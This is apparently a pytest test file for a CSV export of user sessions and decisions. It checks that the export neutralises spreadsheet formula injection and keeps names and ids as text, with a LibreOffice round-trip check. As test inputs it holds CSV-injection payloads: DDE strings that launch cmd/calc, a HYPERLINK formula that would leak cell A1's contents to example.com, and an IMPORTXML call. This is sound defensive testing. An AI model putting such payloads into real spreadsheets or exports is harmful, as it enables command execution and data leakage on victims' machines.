"""The CSV of an export: for spreadsheets, whichever it is and whatever people call themselves and their channels."""

import csv
import io
import re
import shutil
import subprocess
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from db_client.export import Person, zip_of
from db_client.person_rules import COLUMNS
from tests.reports.exports import DESK, ME, NOW, STAGE, T, ada, stay_id

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# https://owasp.org/www-community/attacks/CSV_Injection, and what is known of spreadsheets beyond it.
FORMULAS = (
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{control}=1+1" for control in ("\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x0c", "\u2028", "\x85")),
    *(f"{space}=1+1" for space in (" ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "'", '"', "`")),
    *(f"a{separator}=1+1" for separator in (",", ";", "\t", "|", ":", "\n", "\r", '"', "'", '",', '";', '"\t', "; ")),
    '"=1+1"',
    '",=1+1,"',
    '";=1+1;"',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    'x"\r\n=HYPERLINK("http://example.com?x="&A1,"y")',
    "%0A-3+3+cmd|' /C calc'!D2",
    '=IMPORTXML("http://example.com","//a")',
    "=" * 3,
    "-",
)
NAMES = ("00123", "1E5", "1e5", "12345e678", "0x1F", "1.5", "1,5", "-1", "5%", "$5", "1/2", "1-2", "May 5", "5 pm",
         "10:30", "TRUE", "false", "Wahr", "2026-03-31", "\u0663\u0664", "\uff11\uff12",
         "\u00bd", str(ME), "\u20ac 5", "#N/A")  # fmt: skip


def tables(person: Person) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(zip_of(person, NOW))) as archive:
        return {name: archive.read(name).decode() for name in ("sessions.csv", "decisions.csv")}


def called(name: str) -> Person:
    """The person with that text wherever a table of the CSV has text."""
    person = ada()
    texts = ("session_id", "started_by", "ended_by")
    return replace(
        person,
        sessions=[{**row, **dict.fromkeys(texts, name)} for row in person.sessions],
        decisions=[{**row, "decision": name} for row in person.decisions],
        guilds=[{**row, "name": name} for row in person.guilds],
        channels=[{**row, "name": name} for row in person.channels],
    )


def read(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def shown(cell: str) -> str:
    """As a spreadsheet may look at it: without what is not seen in front, and full-width signs as signs."""
    unseen = ("Cc", "Cf", "Zs", "Zl", "Zp")
    start = next((n for n, sign in enumerate(cell) if unicodedata.category(sign) not in unseen), len(cell))
    return unicodedata.normalize("NFKC", cell[start:])


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_text_is_a_formula(text, separator):
    """In no column, at whatever sign the spreadsheet splits the lines."""
    for table in tables(called(text)).values():
        for line in csv.reader(io.StringIO(table[1:]), delimiter=separator):
            for cell in line:
                assert not shown(cell.strip('"')).startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_looks_like_something_else_stays_text(name):
    """Numbers, dates, times, truth values, shares: with an apostrophe in front, in every column of text."""
    kinds = {
        column for table in ("sessions", "decisions") for column in COLUMNS[table] if column.endswith(("_by", "ion"))
    }
    for table in tables(called(name)).values():
        for row in read(table):
            for column in (kinds | {"server", "channel", "session_id"}) & row.keys() - {"revision"}:
                assert row[column] in (f"'{name}", ""), column


@pytest.mark.parametrize(
    "name", ["Desk", "Café", "Große Halle", "会議室", "Комната", "a-b", "Mu'allim", "R&D: talk", "NaN", "", "😀"]
)
def test_a_plain_name_is_as_it_is(name):
    """What no spreadsheet misreads has nothing in front, but where it begins with no letter."""
    [cell, *_] = [row["channel"] for row in read(tables(called(name))["sessions.csv"])]
    assert cell == ("'😀" if name == "😀" else name)


def test_moments_durations_and_ids():
    """Moments to the second in UTC, durations in whole seconds, ids as text; what is open has no end."""
    first, second, third = sorted(read(tables(ada())["sessions.csv"]), key=lambda row: row["started_at"])
    assert (first["server"], first["channel"], second["channel"]) == ("Study room", "Desk", "'1E5")
    assert (first["started (UTC)"], first["ended (UTC)"]) == ("2023-07-22 04:26:41", "2023-07-22 05:26:41")
    assert (first["duration (seconds)"], second["duration (seconds)"]) == ("3600", "5399")
    assert (third["ended (UTC)"], third["duration (seconds)"], third["ended_at"]) == ("", "", "")
    assert third["server"] == "'=HYPERLINK(1)"
    assert (first["started_at"], first["session_id"]) == (str(T + 1000), f"'{stay_id(1)}")
    assert (first["user_id"], first["channel_id"], second["channel_id"]) == (f"'{ME}", f"'{DESK}", f"'{STAGE}")
    decided = read(tables(ada())["decisions.csv"])[0]
    assert list(decided) == ["decided (UTC)", "decision", "at", "interaction_id"]
    assert decided["decided (UTC)"] == "2023-07-22 04:26:40"


def types_of(row: str) -> list[str]:
    """The types of the cells in a row of a flat OpenDocument sheet, which writes equal neighbours once."""
    cells = re.findall(r"<table:table-cell([^>]*)>", row)
    repeated = [re.search(r'columns-repeated="(\d+)"', cell) for cell in cells]
    types = [re.search(r'office:value-type="(\w+)"', cell) for cell in cells]
    return [
        kind[1] if kind else ""
        for kind, times in zip(types, repeated, strict=True)
        for _ in range(int(times[1]) if times and (kind or int(times[1]) < 100) else 1)
    ]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="no LibreOffice: Debian's package libreoffice-calc-nogui")
@pytest.mark.parametrize("locale", ["1033", "1031"])
def test_libreoffice_sees_what_is_meant(tmp_path: Path, locale):
    """English and German, with every recognition on: moments are dates, durations add up, ids and names are text."""
    person = ada()
    names = [*FORMULAS, *NAMES]
    person = replace(
        person,
        sessions=[{**person.sessions[0], "channel_id": number} for number in range(len(names))],
        channels=[{**person.channels[0], "channel_id": n, "name": name} for n, name in enumerate(names)],
    )
    (tmp_path / "sessions.csv").write_text(tables(person)["sessions.csv"], encoding="utf-8", newline="")
    filters = f"--infilter=CSV:44,34,76,1,,{locale},false,true,false,false,false"
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    command = ["soffice", profile, "--headless", filters, "--convert-to", "fods", "--outdir", tmp_path, "sessions.csv"]
    subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, timeout=100)
    sheet = (tmp_path / "sessions.fods").read_text("utf-8")
    assert "table:formula" not in sheet
    _, *lines = [row for row in map(types_of, sheet.split("<table:table-row")) if row]
    assert len(lines) == len(names)
    for line in lines:
        seen = dict(zip(read(tables(person)["sessions.csv"])[0], line, strict=False))
        assert [seen[name] for name in ("started (UTC)", "ended (UTC)", "duration (seconds)")] == [
            "date",
            "date",
            "float",
        ]
        texts = ("server", "channel", "session_id", "user_id", "channel_id", "guild_id")
        assert {seen[name] for name in texts} == {"string"}
